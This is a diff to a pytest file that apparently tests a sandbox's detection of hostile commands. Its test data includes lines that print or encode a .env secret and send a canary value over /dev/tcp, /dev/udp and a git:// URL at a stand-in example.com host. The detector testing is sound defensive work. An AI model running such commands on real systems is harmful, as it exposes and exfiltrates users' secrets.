@@ -53,6 +53,38 @@ def test_a_change_is_seen(scratch, command, change):
     assert scratch.changes("cat a", seconds=5) == []
 
 
+@pytest.fixture(scope="module")
+def hostile():
+    made = Scratch(is_hostile=True)
+    yield made
+    made.close()
+
+
+needs_listeners = pytest.mark.skipif(
+    not (GUARD and GUARD.is_closed), reason="namespaces are not permitted"
+)
+
+
+@needs_listeners
+@pytest.mark.parametrize(
+    ("command", "finding"),
+    [
+        ("cat .env", "printed a secret"),
+        ("openssl base64 -in .env", "printed a secret"),
+        ("od -An -tx1 .env | tr -d ' \\n'", "printed a secret"),
+        ("exec 3<>/dev/tcp/127.0.0.1/9999; echo x$CANARY >&3", "sent a secret"),
+        ("echo $CANARY > /dev/udp/127.0.0.1/53", "sent a secret"),
+        ("git ls-remote git://$CANARY.example.com/x", "sent a secret"),
+        ("PATH=; ls", "made outside/traces"),
+        ("make -n", "made outside/traces"),
+        ("sleep 30 > /dev/null 2>&1 &", "left sleep running"),
+    ],
+)
+def test_a_hostile_place_shows_what_is_run_printed_and_sent(hostile, command, finding):
+    assert finding in hostile.changes(command, seconds=5)
+    assert hostile.changes("cat a; /bin/ls; git status", seconds=5) == []
+
+
 def test_what_runs_is_stopped_with_its_children_when_its_time_is_over(scratch):
     start = time.monotonic()
     assert scratch.changes("(sleep 60; touch made) & sleep 60", seconds=0.2) == []
